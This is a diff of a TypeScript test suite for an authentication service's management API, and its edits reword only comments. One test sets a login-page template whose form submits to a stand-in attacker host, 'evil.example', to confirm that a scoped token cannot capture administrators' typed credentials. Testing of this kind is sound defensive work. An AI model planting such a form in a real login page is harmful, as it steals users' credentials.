@@ -32,7 +32,7 @@ beforeAll(async () => {
   adminId = rows[0]?.id ?? '';
   await sql`insert into authentication_methods (id, user_id, kind, confirmed, secret, created_at)
     values ('dev_of_the_owner', ${adminId}, 'totp', true, '\\x00', now())`.execute(db);
-  // A link that nobody has used yet, and a name that was typed too often.
+  // The case has an unused link and a name with too many attempts.
   await appoint(server, EMAIL);
   await sql`insert into login_blocks (key, subject, connection_id, identifier, ip, created_at, ends_at)
     values ('k', 's', ${ADMINISTRATORS.id}, ${EMAIL}, '', now(), now() + interval '1 day')`.execute(
@@ -84,7 +84,7 @@ const TARGETS = () => [adminId, ADMINISTRATORS.id, CONSOLE];
 const call = (method: string, path: string, body?: unknown) =>
   server.api<{ errorCode?: string }>(method, `/api/v2${path}`, body);
 
-/** What was answered instead of a refusal. */
+/** Returns the answers that were not refusals. */
 async function unrefused(attempts: [string, string, unknown?][]): Promise<string[]> {
   const wrong: string[] = [];
   for (const [method, path, body] of attempts) {
@@ -97,7 +97,7 @@ async function unrefused(attempts: [string, string, unknown?][]): Promise<string
   return wrong;
 }
 
-/** A body for each place in the schema where a text may stand, with the text there. Free text is about other things. */
+/** Bodies with the text at each place where the schema allows one. Free text may have it. */
 function bodiesWith(schema: TSchema, text: string): unknown[] {
   const {
     properties = {},
@@ -302,7 +302,7 @@ describe('a token with every scope', () => {
 test('a token that writes login page HTML does not read what administrators type there', async () => {
   const template =
     '<!DOCTYPE html><html><head>{%- auth0:head -%}</head><body><form action="https://evil.example/">{%- auth0:widget -%}</form></body></html>';
-  // What they may set is set only here.
+  // Fields that the scope may set are set only here.
   const set = await call('PUT', '/branding/templates/universal-login', { template });
   expect([201, 204]).toContain(set.status);
   const partial = { login: { 'form-content-start': '<p>evil</p>' } };
